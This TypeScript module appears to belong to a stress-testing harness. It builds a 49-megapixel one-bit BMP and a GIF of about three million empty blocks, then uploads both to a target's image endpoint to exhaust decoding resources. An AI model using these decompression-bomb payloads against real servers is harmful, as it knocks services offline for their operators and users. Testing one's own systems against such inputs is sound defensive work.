import { atOnce, post, type Attack } from './attack.ts';

/** A picture of 49 megapixels, one bit each, in six megabytes. */
function blackBmp(): Uint8Array<ArrayBuffer> {
  const [width, height] = [7008, 7000];
  const bytes = Buffer.alloc(62 + (width / 8) * height);
  bytes.write('BM', 'latin1');
  bytes.writeUInt32LE(62, 10);
  bytes.writeUInt32LE(40, 14);
  bytes.writeInt32LE(width, 18);
  bytes.writeInt32LE(height, 22);
  bytes.writeUInt16LE(1, 28);
  return bytes;
}

/** A GIF of millions of empty blocks. */
function emptyGif(): Uint8Array<ArrayBuffer> {
  const head = Buffer.from([...Buffer.from('GIF89a'), 1, 0, 1, 0, 0, 0, 0]);
  return Buffer.concat([head, Buffer.alloc(9_000_000, Buffer.from([0x21, 0xf9, 0])), Buffer.from([0x3b])]);
}

const pictures = [blackBmp(), emptyGif()];

/** Pictures that are small to send and large to decode. */
export const hostilePictures: Attack = {
  name: 'BMPs of 49 megapixels, GIFs of 3 million blocks',
  async wave(target) {
    const counted = {};
    await atOnce(2, (n) =>
      post(
        target,
        `/user/media/images?file=a.${n === 0 ? 'bmp' : 'gif'}`,
        target.author,
        pictures[n] ?? new Uint8Array(),
        counted,
      ),
    );
    return counted;
  },
};
